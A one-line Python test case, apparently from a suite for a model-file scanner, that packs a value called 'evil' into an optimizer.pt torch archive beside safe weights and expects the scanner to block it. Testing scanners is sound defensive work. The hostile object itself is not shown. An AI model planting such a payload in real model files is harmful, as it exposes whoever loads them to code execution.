pair("libraries/training-state/optimizer", "block", "optimizer.pt beside safe weights", lambda v: {"optimizer.pt": torch_zip({"state": {0: {"step": v}}, "param_groups": [{"lr": .001, "params": [0]}]}, {})}, evil, 12)
